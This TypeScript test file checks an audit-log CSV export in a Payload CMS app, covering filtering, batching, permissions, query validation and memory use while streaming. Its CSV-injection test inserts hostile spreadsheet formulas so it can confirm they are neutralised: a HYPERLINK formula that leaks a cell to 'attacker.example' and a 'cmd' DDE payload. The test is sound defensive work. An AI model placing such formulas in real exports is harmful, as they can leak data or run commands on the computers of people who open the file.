import type { CollectionSlug, Where } from 'payload'

import { setFlagsFromString } from 'node:v8'
import { runInNewContext } from 'node:vm'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { Json } from '../helpers/json.js'
import type { RestClient } from '../helpers/restClient.js'

import { parseCsv } from '../helpers/parseCsv.js'
import { restHandlers } from '../helpers/restClient.js'
import { sqlOn } from '../helpers/sql.js'
import { startTestPayload, type TestPayload } from '../helpers/testPayload.js'

const auditLog = 'audit-log' as CollectionSlug
const password = 'a-long-and-unusual-passphrase-42'
const adminEmail = 'admin@example.com'
const editorEmail = 'editor@example.com'
const columns = [
  'timestamp',
  'event',
  'category',
  'actor',
  'actorId',
  'user',
  'userId',
  'targetSlug',
  'targetObject',
  'details',
  'data',
  'ipAddress',
  'clientIp',
  'userAgent',
]

let app: TestPayload
let admin: RestClient
const sql = sqlOn(() => app.payload)

/** The list's filter as the admin puts it in the address, for the export's query string. */
const listFilter = (conditions: Record<string, string>): string =>
  Object.entries(conditions)
    .map(
      ([field, value], index) =>
        `where[or][0][and][${index}][${field}][equals]=${encodeURIComponent(value)}`,
    )
    .join('&')

/** What the admin's list holds for a filter: every stored row, newest first, as the export writes them. */
const storedRows = async (where: Where): Promise<string[][]> => {
  const { docs } = await app.payload.find({
    collection: auditLog,
    depth: 0,
    pagination: false,
    sort: ['-timestamp', '-id'],
    where,
  })
  return (docs as unknown as Record<string, Json>[]).map((doc) =>
    columns.map((name) => {
      const value = doc[name]
      return value === null || value === undefined
        ? ''
        : typeof value === 'string'
          ? value
          : JSON.stringify(value)
    }),
  )
}

/** Rows written straight into the table, as many as an old log holds; `n` is 1, 2, 3... */
const seed = (count: number, values: string) =>
  sql(
    `INSERT INTO audit_log (timestamp, event, category, actor, "user", details, data, ip_address, created_at, updated_at)
     SELECT ${values}, now(), now() FROM generate_series(1, $1::int) AS n`,
    [count],
  )

beforeAll(async () => {
  app = await startTestPayload()
  expect(
    (await app.client().post('/users/first-register', { email: adminEmail, password })).status,
  ).toBe(200)
  await app.payload.create({
    collection: 'users',
    data: { email: editorEmail, password, roles: ['editor'] } as never,
  })
  admin = app.client()
  expect((await admin.post('/users/login', { email: adminEmail, password })).status).toBe(200)

  // 2,500 content entries, seven to a second, so batches of 1,000 end inside runs of equal
  // timestamps; with commas, quotes, line breaks and accents in them. And entries of another
  // category that the filter must leave out.
  await seed(
    2500,
    `timestamp '2024-03-01 10:00:00+00' + (n / 7) * interval '1 second', 'content.updated', 'content',
     'author-' || n || '@example.com', NULL, 'Title "' || n || '", changed' || E'\\r\\n' || 'second line é',
     jsonb_build_object('n', n, 'fields', jsonb_build_array('title', 'slug')), '192.0.2.' || (n % 250)`,
  )
  await seed(
    400,
    `timestamp '2024-03-01 10:00:00+00' + n * interval '1 second', 'session.revoked', 'session',
     NULL, 'someone-' || n || '@example.com', NULL, NULL, NULL`,
  )
})
afterAll(async () => {
  await app?.close()
})

describe('the audit log CSV export', () => {
  it('exports exactly the stored rows of the filtered list, across batches and equal timestamps', async () => {
    const response = await admin.get(
      `/audit-log/export.csv?${listFilter({ category: 'content', event: 'content.updated' })}`,
    )
    expect(response.status).toBe(200)
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8')
    expect(response.headers.get('content-disposition')).toMatch(
      /^attachment; filename="audit-log-\d{4}-\d{2}-\d{2}T\d{2}-\d{2}-\d{2}Z\.csv"$/,
    )
    expect(response.headers.get('cache-control')).toBe('no-store')

    const [header, ...rows] = parseCsv(response.body as string)
    expect(header).toEqual(columns)
    const stored = await storedRows({
      and: [{ category: { equals: 'content' } }, { event: { equals: 'content.updated' } }],
    })
    expect(stored).toHaveLength(2500)
    expect(rows).toEqual(stored)
    // The fields that needed quoting came through whole.
    expect(rows[0]![columns.indexOf('details')]).toBe('Title "2500", changed\r\nsecond line é')
    expect(JSON.parse(rows[0]![columns.indexOf('data')]!)).toEqual({
      fields: ['title', 'slug'],
      n: 2500,
    })
  })

  it("exports the list's search too, and the whole log without a filter", async () => {
    const searched = parseCsv(
      (await admin.get('/audit-log/export.csv?search=someone-17%40')).body as string,
    ).slice(1)
    expect(searched.map((row) => row[columns.indexOf('user')])).toEqual(['someone-17@example.com'])

    const everything = parseCsv((await admin.get('/audit-log/export.csv')).body as string)
    expect(everything.length - 1).toBe(
      await app.payload.count({ collection: auditLog }).then((c) => c.totalDocs),
    )
  })

  it('neutralises a hostile value such as =HYPERLINK(...) so a spreadsheet shows it as text (OWASP CSV injection)', async () => {
    const hostile = [
      '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      '\tindented',
    ]
    for (const [index, value] of hostile.entries()) {
      await sql(
        `INSERT INTO audit_log (timestamp, event, category, actor, "user", user_agent, created_at, updated_at)
         VALUES ($1, 'login.failed', 'authentication', NULL, $2, $2, now(), now())`,
        [`2025-06-01T00:00:0${index}Z`, value],
      )
    }
    const response = await admin.get(
      `/audit-log/export.csv?${listFilter({ event: 'login.failed' })}`,
    )
    expect(response.status).toBe(200)
    const text = response.body as string
    const rows = parseCsv(text).slice(1)
    const users = rows.map((row) => row[columns.indexOf('user')])
    const agents = rows.map((row) => row[columns.indexOf('userAgent')])
    // Newest first: the last one inserted leads.
    const expected = hostile.map((value) => `'${value}`).reverse()
    expect(users).toEqual(expected)
    expect(agents).toEqual(expected)
    // No field of the file starts with a formula character.
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([])
    expect(text).not.toMatch(/(^|,|\r\n)"?=HYPERLINK/)
  })

  it('refuses an editor with 403 INSUFFICIENT_PERMISSIONS, and anyone signed out with 401', async () => {
    const editor = app.client()
    expect((await editor.post('/users/login', { email: editorEmail, password })).status).toBe(200)
    const refused = await editor.get('/audit-log/export.csv')
    expect(refused.status).toBe(403)
    expect(refused.body.errors[0].data.code).toBe('INSUFFICIENT_PERMISSIONS')
    expect(JSON.stringify(refused.body)).not.toContain('example.com')

    const anonymous = await app.client().get('/audit-log/export.csv')
    expect(anonymous.status).toBe(401)
    expect(anonymous.body.errors[0].data.code).toBe('AUTHENTICATION_REQUIRED')
  })

  it('answers a filter on a field that does not exist with 400 AUDIT_EXPORT_QUERY_INVALID', async () => {
    const response = await admin.get('/audit-log/export.csv?where[password][equals]=x')
    expect(response.status).toBe(400)
    expect(response.body.errors[0].data.code).toBe('AUDIT_EXPORT_QUERY_INVALID')
  })

  it('finding 10: answers a filter value invalid for its column with 400 AUDIT_EXPORT_QUERY_INVALID, not 500', async () => {
    const [before] = await sql('SELECT count(*)::int AS n FROM audit_log')
    for (const query of [
      // An event that is none of the select's options (a PostgreSQL enum).
      'where[event][equals]=x',
      // Ids that are no numbers.
      'where[id][in]=a,b',
      // A point for a date column.
      'where[timestamp][near]=1,2',
    ]) {
      const response = await admin.get(`/audit-log/export.csv?${query}`)
      expect(response.status, query).toBe(400)
      expect(response.body.errors[0].data.code, query).toBe('AUDIT_EXPORT_QUERY_INVALID')
    }
    // The export only reads: nothing was stored or removed.
    const [after] = await sql('SELECT count(*)::int AS n FROM audit_log')
    expect(after.n).toBe(before.n)
  })

  it('finding 10: the users list answers a filter value invalid for its column with 400 and a catalogue code, not 500', async () => {
    const response = await admin.get(
      `/users?where[totpConfig.status][in]=${encodeURIComponent("a'b")}`,
    )
    expect(response.status).toBe(400)
    expect(response.body.errors[0].data.code).toBe('LIST_FILTER_INVALID')
    const [{ n }] = await sql('SELECT count(*)::int AS n FROM users')
    expect(n).toBe(2)
  })

  it('streams 200,000 rows without holding them in memory', async () => {
    const count = 200_000
    await seed(
      count,
      `timestamp '2023-01-01 00:00:00+00' + n * interval '1 second', 'user.updated', 'user',
       'bulk-admin@example.com', 'bulk-' || n || '@example.com', 'Changed roles and name', 
       jsonb_build_object('fields', jsonb_build_array('roles', 'name')), '198.51.100.' || (n % 250)`,
    )
    const url = new URL(
      `/api/audit-log/export.csv?${listFilter({ category: 'user', actor: 'bulk-admin@example.com' })}`,
      'http://localhost:3000',
    )
    const request = new Request(url, {
      headers: {
        cookie: admin.cookies.header(url.pathname) ?? '',
        'sec-fetch-site': 'same-origin',
      },
    })
    // The collector runs when it likes: what an export keeps alive is the heap after a collection,
    // taken every 20 chunks (V8's own gc(), exposed for the measurement).
    setFlagsFromString('--expose-gc')
    const gc = runInNewContext('gc') as () => void
    gc()
    const before = process.memoryUsage().rss
    const heapBefore = process.memoryUsage().heapUsed
    let peak = before
    let heapPeak = heapBefore
    let chunks = 0
    const started = Date.now()
    const response = await restHandlers.GET(app.config)(request, {
      params: Promise.resolve({ slug: ['audit-log', 'export.csv'] }),
    })
    expect(response.status).toBe(200)
    // Read as a client does, chunk by chunk, counting records without keeping them.
    const reader = response.body!.getReader()
    let lines = 0
    let bytes = 0
    for (;;) {
      const { done, value } = await reader.read()
      if (done) break
      bytes += value.byteLength
      for (const byte of value) if (byte === 0x0a) lines++
      peak = Math.max(peak, process.memoryUsage().rss)
      if (++chunks % 20 === 0) {
        gc()
        heapPeak = Math.max(heapPeak, process.memoryUsage().heapUsed)
      }
    }
    const growthMiB = (peak - before) / 2 ** 20
    const heapGrowthMiB = (heapPeak - heapBefore) / 2 ** 20
    console.info(
      `export of ${count} rows: ${(bytes / 2 ** 20).toFixed(1)} MiB of CSV in ${((Date.now() - started) / 1000).toFixed(1)} s, RSS growth ${growthMiB.toFixed(0)} MiB, live heap growth ${heapGrowthMiB.toFixed(1)} MiB`,
    )
    // Header plus one line per row (no field of these rows holds a line break).
    expect(lines).toBe(count + 1)
    // All rows at once would be hundreds of MiB of live objects; one batch of 1,000 is a few MiB.
    expect(heapGrowthMiB).toBeLessThan(48)
    // The resident size, garbage included, stays well under the 32 MiB file's rows as objects.
    expect(growthMiB).toBeLessThan(512)
  }, 240_000)
})
